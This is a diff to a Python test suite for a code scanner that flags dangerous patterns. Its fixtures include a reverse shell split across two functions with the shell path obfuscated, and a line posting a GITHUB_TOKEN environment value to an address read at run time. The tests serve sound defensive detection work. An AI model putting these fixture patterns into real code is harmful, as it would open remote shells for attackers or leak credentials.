@@ -315,3 +315,24 @@ def test_a_token_in_the_body_to_an_address_read_at_run_time_stays_critical(tmp_p
         'requests.post(base, data={"t": os.environ["GITHUB_TOKEN"]})\n'
     )
     assert _ids(_scan(tmp_path, code)) == [("SKC-PY-011", 3, Level.CRITICAL)]
+
+
+SPLIT_SHELL = (
+    "import os, socket, pty\n"
+    "def attach(conn):\n    for n in (0, 1, 2):\n        os.dup2(conn.fileno(), n)\n"
+    '    pty.spawn(["/bin/" + "sh", "-i"])\n'
+    "def submit():\n    s = socket.create_connection(HOST)\n    attach(s)\n"
+)
+
+
+def test_a_reverse_shell_split_over_two_functions(tmp_path: Path) -> None:
+    assert "SKC-PY-010" in {rule for rule, _, _ in _ids(_scan(tmp_path, SPLIT_SHELL))}
+
+
+def test_a_socket_and_a_terminal_that_are_never_joined(tmp_path: Path) -> None:
+    code = (
+        "import socket, pty\n"
+        "def ping():\n    socket.create_connection(('localhost', 80)).close()\n"
+        "def shell():\n    pty.spawn('/bin/sh')\n"
+    )
+    assert "SKC-PY-010" not in {rule for rule, _, _ in _ids(_scan(tmp_path, code))}
